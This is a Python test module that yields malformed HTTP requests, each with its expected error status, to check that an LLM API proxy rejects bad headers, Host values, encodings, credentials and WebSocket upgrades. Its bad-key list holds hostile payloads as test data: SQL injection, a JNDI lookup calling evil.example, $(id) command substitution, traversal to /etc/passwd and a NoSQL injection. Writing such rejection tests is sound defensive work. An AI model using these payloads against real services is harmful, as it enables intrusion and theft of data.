"""Headers that are none, credentials that are none, and what may not be asked for by a header."""

from collections.abc import Iterator

from tests.bad_inputs.raw import CHAT, KEY, MESSAGES, Bad, request

NO_NAMES = {
    **{
        f"name-{ord(letter):02x}": b"X" + letter.encode() + b"Y: z"
        for letter in '"(),/;<=>?@[\\]{}'
    },
    "name-empty": b": z",
    "name-blank": b" : z",
    "name-space": b"X Y: z",
    "name-space-behind": b"X : z",
    "name-tab-behind": b"X\t: z",
    "name-nul": b"X\x00: z",
    "name-escape": b"X\x1b: z",
    "name-delete": b"X\x7f: z",
    "name-high-byte": b"X\x80: z",
    "name-accent": "Xé: z".encode(),
    "no-colon": b"X",
    "no-colon-word": b"X z",
    "equals": b"X=z",
}
CONTROLS = [*range(0x09), 0x0A, 0x0B, 0x0C, *range(0x0D, 0x20), 0x7F]
"""All that RFC 9110, 5.5 does not allow in a value: any but HTAB."""
FOLDS = {
    "space": b"X: y\r\n z",
    "tab": b"X: y\r\n\tz",
    "blank-line": b"X: y\r\n \r\n z",
    "empty-value": b"X:\r\n y",
    "another-header": b"X: y\r\n Host: z",
    "credential": b"X-Api-Key: \r\n " + KEY,
}
HOSTS: dict[str, tuple[bytes | None, ...]] = {
    "none": (None,),
    "two": (b"Host: x", b"Host: x"),
    "two-different": (b"Host: x", b"Host: evil.example"),
    "two-in-other-letters": (b"Host: x", b"hOST: evil.example"),
    "list": (b"Host: x, evil.example y",),
    "slash": (b"Host: x/../admin",),
    "question": (b"Host: x?y",),
    "hash": (b"Host: x#y",),
    "at": (b"Host: user@x",),
    "backslash": (b"Host: x\\y",),
    "space": (b"Host: x y",),
    "quote": (b'Host: "x"',),
    "braces": (b"Host: {{x}}",),
    "high-byte": (b"Host: x\xff",),
    "accent": ("Host: bücher.example".encode(),),
    "script": (b"Host: <script>",),
    "url": (b"Host: http://x/",),
    "folded": (b"Host: x\r\n y",),
}
CODINGS = {
    "gzip": b"gzip",
    "gzip-capitals": b"GZIP",
    "brotli": b"br",
    "deflate": b"deflate",
    "zstd": b"zstd",
    "compress": b"compress",
    "x-gzip": b"x-gzip",
    "aes": b"aes128gcm",
    "identity-then-gzip": b"identity, gzip",
    "gzip-then-identity": b"gzip, identity",
    "unknown": b"unknown",
    "any": b"*",
}

BEARER = b"Authorization: Bearer "
WELL_MADE = b"llmp_" + b"0" * 43
"""With 6 characters behind it, it is as long as a key of ours."""
NO_KEYS = {
    "none": None,
    "empty": b"Authorization:",
    "scheme-only": b"Authorization: Bearer",
    "scheme-and-blanks": b"Authorization: Bearer \t ",
    "no-scheme": b"Authorization: " + KEY,
    "no-space": b"Authorization: Bearer" + KEY,
    "tab": b"Authorization: Bearer\t" + KEY,
    "colon": b"Authorization: Bearer: " + KEY,
    "equals": b"Authorization: Bearer=" + KEY,
    "scheme-twice": BEARER + b"Bearer " + KEY,
    "basic": b"Authorization: Basic a2V5LW9mLXRoZS1iYWQtaW5wdXRzOg==",
    "digest": b'Authorization: Digest username="' + KEY + b'"',
    "token": b"Authorization: Token " + KEY,
    "negotiate": b"Authorization: Negotiate " + KEY,
    "quoted": BEARER + b'"' + KEY + b'"',
    "in-angle-brackets": BEARER + b"<" + KEY + b">",
    "capitals": BEARER + KEY.upper(),
    "shorter": BEARER + KEY[:-1],
    "longer": BEARER + KEY + b"x",
    "twice": BEARER + KEY + KEY,
    "list": BEARER + KEY + b", Bearer " + KEY,
    "space-inside": BEARER + KEY[:4] + b" " + KEY[4:],
    "tab-inside": BEARER + KEY[:4] + b"\t" + KEY[4:],
    "no-break-space-behind": BEARER + KEY + b"\xa0",
    "next-line-behind": BEARER + KEY + b"\x85",
    "zero-width": BEARER + KEY + "\u200b".encode(),
    "wide": BEARER + "\uff4b\uff45\uff59".encode(),
    "percent-encoded": BEARER + b"%6bey-of-the-bad-inputs",
    "base64": BEARER + b"a2V5LW9mLXRoZS1iYWQtaW5wdXRz",
    "sha256": BEARER + b"0" * 64,
    "high-bytes": BEARER + b"\xff\xfe\xfd",
    "utf8": BEARER + "ключ-後-🔑".encode(),
    "no-utf8": BEARER + b"\xc3\x28",
    "very-long": BEARER + b"llmp_" + b"k" * 8000,
    "prefix-only": BEARER + b"llmp_",
    "well-made-no-checksum": BEARER + WELL_MADE,
    "near-miss-checksum": BEARER + WELL_MADE + b"000000",
    "near-miss-checksum-2": BEARER + WELL_MADE + b"zzzzzz",
    "near-miss-prefix": BEARER + b"LLMP_" + b"0" * 49,
    "near-miss-admin": BEARER + b"llmpa_" + b"0" * 49,
    "near-miss-alphabet": BEARER + WELL_MADE + b"-_-_-_",
    "openais": BEARER + b"sk-proj-" + b"0" * 40,
    "anthropics": b"X-Api-Key: sk-ant-api03-" + b"0" * 40,
    "sql-or": BEARER + b"' OR '1'='1",
    "sql-comment": BEARER + b"x'--",
    "sql-union": BEARER + b"x' UNION SELECT key_hash FROM api_keys--",
    "sql-drop": BEARER + b"x'; DROP TABLE users;--",
    "sql-double-quote": BEARER + b'" OR ""="',
    "sql-wildcard": BEARER + b"%",
    "sql-glob": BEARER + b"*",
    "sql-null": BEARER + b"NULL",
    "json": BEARER + b'{"$ne":null}',
    "list-of-one": BEARER + b"[0]",
    "true": BEARER + b"true",
    "zero": BEARER + b"0",
    "template": BEARER + b"${jndi:ldap://evil.example/x}",
    "shell": BEARER + b"$(id)",
    "path": BEARER + b"../../../../etc/passwd",
    "jwt-without-signature": BEARER + b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbm4ifQ.",
    "in-a-cookie": b"Cookie: Authorization=Bearer%20" + KEY,
    "in-proxy-authorization": b"Proxy-Authorization: Bearer " + KEY,
    "in-x-auth-token": b"X-Auth-Token: " + KEY,
    "in-an-underscore": b"X_Api_Key: " + KEY,
    "in-x-api-key-with-scheme": b"X-Api-Key: Bearer " + KEY,
    "in-api-key-quoted": b'Api-Key: "' + KEY + b'"',
    "in-goog-key-longer": b"X-Goog-Api-Key: " + KEY + b"1",
    "two-wrong": b"Authorization: Bearer x\r\nX-Api-Key: y",
}
QUERIES = {
    "wrong": b"key=x",
    "other-name": b"api_key=" + KEY,
    "capitals": b"KEY=" + KEY,
    "encoded-twice": b"key=%256bey-of-the-bad-inputs",
    "list": b"key[]=" + KEY,
    "behind-a-semicolon": b"x=1;key=" + KEY,
    "no-utf8": b"key=%ff%fe",
    "nul": b"key=" + KEY + b"%00",
    "sql": b"key='%20OR%201=1--",
    "many": b"&".join([b"key=x"] * 900),
}


def inputs() -> Iterator[Bad]:
    """Yield them, all with a body that would be served."""
    for name, line in NO_NAMES.items():
        yield Bad(f"header-{name}", 400, request(headers=(line,)))
    for control in CONTROLS:
        line = b"X: y%bz" % bytes([control])
        yield Bad(f"header-control-{control:02x}", 400, request(headers=(line,)))
    for name, line in FOLDS.items():
        yield Bad(f"header-folded-{name}", 400, request(headers=(line,)))
    yield Bad("header-folded-first", 400, request(host=b" Host: x"))
    for name, (host, *more) in HOSTS.items():
        headers = [line for line in more if line is not None]
        yield Bad(f"header-host-{name}", 400, request(host=host, headers=headers))
    many = [b"X-%d: y" % number for number in range(200)]
    yield Bad("header-too-many", 431, request(headers=many))
    yield Bad("header-too-many-empty", 431, request(headers=[b"a:"] * 500))
    for name, coding in CODINGS.items():
        line = b"Content-Encoding: " + coding
        yield Bad(f"header-encoded-{name}", 415, request(headers=(line,)))
    two = (b"Content-Encoding: identity", b"Content-Encoding: gzip")
    yield Bad("header-encoded-in-the-second", 415, request(headers=two))
    yield from _upgrades()
    for name, key in NO_KEYS.items():
        yield Bad(f"key-{name}", 401, request(key=key))
    for name, query in QUERIES.items():
        line = b"POST " + CHAT + b"?" + query + b" HTTP/1.1"
        yield Bad(f"key-query-{name}", 401, request(line=line, key=None))
    for name, path in {
        "models": b"/v1/openai/models",
        "one-model": b"/v1/anthropic/v1/models/claude-sonnet-4-6",
        "own-key": b"/v1/key",
        "usage": b"/v1/usage?group=day",
    }.items():
        line = b"GET " + path + b" HTTP/1.1"
        for what, key in (("none", None), ("wrong", b"X-Api-Key: x")):
            yield Bad(f"key-{name}-{what}", 401, request(line=line, key=key, body=b"", length=b""))
    for name, path in {"messages": MESSAGES, "counting": MESSAGES + b"/count_tokens"}.items():
        line = b"POST " + path + b"?beta=true HTTP/1.1"
        yield Bad(f"key-{name}", 401, request(line=line, key=None))


def _upgrades() -> Iterator[Bad]:
    version = (b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
    upgrade = (b"Connection: Upgrade", b"Upgrade: websocket", *version)
    mixed = (b"Connection: keep-alive, UPGRADE", b"Upgrade: WebSocket", *version)
    responses, realtime = b"/v1/openai/responses", b"/v1/openai/realtime?model=x"
    for name, path in {
        "responses": responses,
        "realtime": realtime,
        "root": b"/",
        "own-key": b"/v1/key",
        "messages": MESSAGES,
    }.items():
        line = b"GET " + path + b" HTTP/1.1"
        for what, headers in (("", upgrade), ("-mixed", mixed)):
            raw = request(line=line, headers=headers, body=b"", length=b"")
            yield Bad(f"header-websocket-{name}{what}", 426, raw)
    yield Bad("header-websocket-without-key", 426, request(headers=upgrade, key=None))
    yield Bad("header-websocket-post", 426, request(headers=upgrade))
